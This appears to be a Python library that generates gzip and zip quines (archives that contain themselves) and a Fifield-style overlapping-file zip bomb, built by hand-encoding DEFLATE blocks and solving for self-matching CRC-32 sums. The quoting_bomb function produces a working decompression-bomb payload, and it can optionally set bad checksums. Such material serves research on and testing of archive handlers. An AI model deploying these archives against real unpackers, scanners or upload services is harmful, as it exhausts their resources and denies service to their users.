"""Archives that hold themselves, byte for byte, and one whose files lie in one another.

The first are made as Russ Cox describes ("Zip Files All The Way Down", 2010): DEFLATE as a language of two instructions of five bytes, one that
writes what follows it and one that repeats what was written last. The sum in them is the one that they have: it is affine, bit by bit, so a
system of equations gives it. The last is David Fifield's ("A better zip bomb", 2019).
"""

import struct
import zlib
from collections.abc import Callable

_EMPTY_LAST = b"\x01\0\0\xff\xff"
_NAME = b"r" * 26 + b".zip"
"""Of a length at which one repetition of the header before it takes exactly five bytes."""
_COMMENT = b"c" * 150


def gzip_quine() -> bytes:
    """A gzip of itself."""
    head = b"\x1f\x8b\x08\x08" + bytes(6) + b"r.gz\0"

    def made(sum_: int, size: int) -> bytes:
        return _quine(head, _EMPTY_LAST + struct.pack("<2L", sum_, size))

    size = len(made(0, 0))
    return made(_own_sum(lambda sum_: made(sum_, size)), size)


def zip_quine() -> bytes:
    """A zip whose one file is itself."""

    def made(sum_: int, packed: int, size: int) -> bytes:
        said = struct.pack("<5H3L2H", 20, 0, 8, 0, 33, sum_, packed, size, len(_NAME), 0)
        directory = b"PK\1\2" + struct.pack("<H", 20) + said + bytes(14) + _NAME
        where = len(_NAME) + 30 + packed
        end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(directory), where, len(_COMMENT)) + _COMMENT
        return _quine(b"PK\3\4" + said + _NAME, _EMPTY_LAST + directory + end)

    size = len(made(0, 0, 0))
    packed = size - len(_NAME) - 30 - len(_NAME) - 46 - 22 - len(_COMMENT)
    return made(_own_sum(lambda sum_: made(sum_, packed, size)), packed, size)


def _quine(head: bytes, tail: bytes) -> bytes:
    """What unpacks to itself between these; `tail` begins with the last, empty block."""
    to_head, to_tail = len(head) + 5, len(tail) + 5
    return b"".join(
        [
            *(head, _write(to_head), head, _write(to_head), _repeat(to_head)),
            *(_write(5), _repeat(to_head), _write(5), _write(5)),
            *(_write(20), _repeat(to_head), _write(5), _write(5), _write(20), _repeat(20)),
            *(_write(20), _repeat(20), _write(20), _repeat(20), _write(20), _repeat(20)),
            *(_write(20), _repeat(20), _write(0), _write(0), _write(to_tail), _repeat(20)),
            *(_write(0), _write(0), _write(to_tail), _repeat(to_tail), tail, _repeat(to_tail), tail),
        ]
    )


def _write(size: int) -> bytes:
    """Write the bytes that follow."""
    return struct.pack("<B2H", 0, size, size ^ 0xFFFF)


def _repeat(size: int) -> bytes:
    """Write once more the bytes that were written last."""
    halves = [size // 2] * 2 if size <= 20 else [size]
    bits = "010" + "".join(_copy(length, size) for length in halves) + "0000000"
    bits += "0100000000" * (len(halves) == 1)
    assert len(bits) == 40
    return bytes(int(bits[at : at + 8][::-1], 2) for at in range(0, 40, 8))


def _copy(length: int, distance: int) -> str:
    """One repetition in the fixed code of DEFLATE, as bits in their order (RFC 1951, 3.2.5 and 3.2.6)."""
    symbol, extra, least = _symbol(length - 3, 4, 8)
    coded = f"{symbol + 1:07b}" if symbol < 23 else f"{0b11000000 + symbol + 257 - 280:08b}"
    if length == 258:
        coded, extra, least = "11000101", 0, length - 3
    of_distance, more, from_ = _symbol(distance - 1, 2, 4)
    return coded + _reversed(length - 3 - least, extra) + f"{of_distance:05b}" + _reversed(distance - 1 - from_, more)


def _symbol(value: int, steps: int, first: int) -> tuple[int, int, int]:
    """The number of the range in which a value lies, its bits, and the least value in it; each `steps` ranges are twice as wide."""
    if value < first:
        return value, 0, value
    extra = (value // steps).bit_length() - 1
    within = value >> extra
    return steps * extra + within, extra, within << extra


def _reversed(value: int, bits: int) -> str:
    return f"{value:0{bits}b}"[::-1] if bits else ""


def _own_sum(made: Callable[[int], bytes]) -> int:
    """The number that is the CRC-32 of what is made with it."""
    constant = zlib.crc32(made(0))
    rows = [(zlib.crc32(made(1 << bit)) ^ constant ^ (1 << bit), 1 << bit) for bit in range(32)]
    left, found = constant, 0
    for bit in range(32):
        pivot = next((row for row in rows if row[0] >> bit & 1), None)
        if pivot is None:
            continue
        rows = [
            (row[0] ^ pivot[0], row[1] ^ pivot[1]) if row[0] >> bit & 1 else row for row in rows if row is not pivot
        ]
        if left >> bit & 1:
            left, found = left ^ pivot[0], found ^ pivot[1]
    assert left == 0
    return found


def quoting_bomb(files: int, kernel_bytes: int, *, is_sound: bool = True) -> bytes:
    """A zip whose every file holds the headers of those behind it, and all the same zeros; its sums may be wrong."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(kernel_bytes)) + packer.flush()
    sum_, size = zlib.crc32(bytes(kernel_bytes)) if is_sound else 7, kernel_bytes
    content = bytes(kernel_bytes)
    headers: list[tuple[bytes, bytes]] = []
    data = b""
    for number in range(files):
        name = b"%06d" % number
        said = struct.pack("<5H3L2H", 20, 0, 8, 0, 33, sum_, len(packed), size, len(name), 0)
        header = b"PK\3\4" + said + name
        headers.insert(0, (b"PK\1\2" + struct.pack("<H", 20) + said + bytes(10), name))
        data = header + packed
        content = header + content if is_sound else b""
        packed = _write(len(header)) + data
        size += len(header)
        sum_ = zlib.crc32(content) if is_sound else 7
    directory = b"".join(
        header + struct.pack("<L", number * (30 + 6 + 5)) + name for number, (header, name) in enumerate(headers)
    )
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, files, files, len(directory), len(data), 0)
    return data + directory + end
